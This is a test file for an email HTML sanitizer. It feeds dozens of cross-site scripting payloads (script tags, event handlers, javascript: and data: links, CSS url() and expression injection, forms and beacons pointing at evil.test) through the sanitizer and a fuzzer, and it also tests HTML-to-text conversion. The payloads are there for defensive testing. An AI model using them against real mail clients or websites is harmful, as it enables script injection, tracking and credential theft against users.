import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { textOfSanitizedHtml } from "./html-to-text.ts";
import { sanitizeMailHtml } from "./sanitize.ts";

const attribute = / ([a-z]+)="([^"<>]*)"/g;
const known = [
  "href",
  "title",
  "rel",
  "target",
  "alt",
  "dir",
  "lang",
  "style",
  "start",
  "type",
  "colspan",
  "rowspan",
  "align",
  "valign",
  "scope",
];

/** What is left of `html`, after checking that a browser could only read harmless tags in it. */
function harmless(html: string): string {
  const clean = sanitizeMailHtml(html);
  for (const piece of clean.split("<").slice(1)) {
    const [, tag = "", attributes = ""] = /^\/?([a-z0-9]+)((?: [a-z]+(?:="[^"<>]*")?)*)(?: \/)?>/.exec(piece) ?? [];
    expect(tag, piece).not.toBe("");
    expect([
      "script",
      "style",
      "form",
      "input",
      "button",
      "iframe",
      "object",
      "embed",
      "svg",
      "math",
      "link",
      "meta",
      "base",
      "template",
      "video",
      "audio",
      "frame",
    ]).not.toContain(tag);
    for (const [, name = "", value = ""] of attributes.matchAll(attribute)) {
      expect(known, piece).toContain(name);
      if (name === "href") expect(value).toMatch(/^(?:https?|mailto|tel):/);
      if (name === "style") expect(value).not.toMatch(/url|expression|import|position|\\/i);
    }
    if (tag === "img") expect(attributes).not.toContain("src");
  }
  return clean;
}

describe("hostile HTML", () => {
  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.gif?u=1' alt=chat>",
    "<img srcset='https://evil.test/a 1x' src=cid:1>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>y</a><a href='blob:https://x'>z</a>",
    "<a href='//evil.test/'>x</a><a href='/settings'>y</a><a href='settings'>z</a><a href='?a'>q</a><a href='#b'>h</a>",
    "<a href='https://ok.test/' target=_self rel=opener ping='https://evil.test' download onclick=alert(1)>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form action=https://evil.test><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x><embed src=x><param name=a value=b></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'><link rel=stylesheet href=https://evil.test/x.css><base href=https://evil.test/>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test)}</style>",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<p style='background-color:red;background-image:url(https://evil.test)'>x</p>",
    "<p style='color:expression(alert(1));width:expression(alert(1))'>x</p>",
    "<p style='color:\\75rl(https://evil.test)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Sign in</p>",
    "<p style='color:red;}*{background:url(x)'>x</p>",
    "<div onmouseover='alert(1)' ONCLICK=alert(1) /onfocus=alert(1)>x</div>",
    "<p title='\" onmouseover=alert(1) x=\"'>x</p>",
    "<a title='\"><script>alert(1)</script>' href=https://x.test>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea/><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template><title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml <script>alert(1)</script>?>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)><details open ontoggle=alert(1)>",
    "<body background=https://evil.test/x onload=alert(1)><table background=https://evil.test/y><td background=z>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
    "<img\u0000 src=x onerror=alert(1)><a hr\u0000ef='java\u0000script:alert(1)'>x</a>",
    "<b><img alt='</b><script>alert(1)</script>'>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>alert(1)//<</script>",
    "<a",
    "<img src=x onerror=alert(1)//",
  ])("%s leaves nothing that runs or loads", (html) => {
    harmless(html);
  });

  test("no mixture of hostile pieces gets through", () => {
    const piece = fc.constantFrom(
      "<script>",
      "</script>",
      "<style>",
      "</style>",
      "<svg>",
      "<math>",
      "<noscript>",
      "</noscript>",
      "<textarea>",
      "<!--",
      "-->",
      "<b",
      ">",
      "'",
      '"',
      "<img src=x onerror=alert(1)",
      " href=javascript:x",
      "<a title='",
      "&lt;",
      "&#60;",
      "\u0000",
      "/",
      "<iframe>",
      "<xmp>",
      "</p>",
      "<p>",
      "<table>",
      "<td style='color:",
      "]]>",
      "<![CDATA[",
      "x",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => void harmless(pieces.join(""))),
      { numRuns: 1_500 },
    );
  });
});

test("what a person writes is kept", () => {
  const html = harmless(
    "<div dir=ltr style='color:#333;margin:9px'>Bonjour <b>Clientèle</b> &amp; co<br><ul><li>un</li></ul><table><tr><td colspan=2>x</td></tr></table></div>",
  );
  expect(html).toBe(
    '<div dir="ltr" style="color:#333">Bonjour <b>Clientèle</b> &amp; co<br /><ul><li>un</li></ul><table><tr><td colspan="2">x</td></tr></table></div>',
  );
});

test("a link opens elsewhere, tells nothing and passes on nothing", () => {
  expect(harmless("<a href='https://x.test/?a=1&amp;b=2'>x</a>")).toBe(
    '<a href="https://x.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
});

test("a picture is replaced by what it stands for", () => {
  expect(harmless("<img src=https://x.test/a.png alt='Le logo' width=9>")).toBe('<img alt="Le logo" />');
});

test("tags nested beyond 100 are dropped and their text kept", () => {
  const clean = harmless(`${"<div>".repeat(50_000)}deep${"</div>".repeat(50_000)}`);
  expect(clean.match(/<div>/g)).toHaveLength(100);
  expect(clean).toContain("deep");
});

test.each([
  [
    "paragraphs and lists",
    "<p>Un</p><p>Deux<br>trois</p><ul><li>a</li><li>b</li></ul>",
    "Un\n\nDeux\ntrois\n\n• a\n\n• b",
  ],
  [
    "links with where they lead",
    "<a href='https://x.test/a'>ici</a> <a href='https://x.test'>https://x.test</a>",
    "ici <https://x.test/a> https://x.test",
  ],
  ["table cells", "<table><tr><td>a</td><td>b</td></tr></table>", "a\tb"],
  ["entities", "a &lt;b&gt; &amp;amp; &eacute;&nbsp;!", "a <b> &amp; é !"],
  ["preformatted text", "<pre>a\n   b</pre>", "a\n   b"],
  ["a picture's words", "<p>x <img src=a alt='chat'></p>", "x chat"],
])("HTML becomes text: %s", (_, html, text) => {
  expect(textOfSanitizedHtml(sanitizeMailHtml(html))).toBe(text);
});
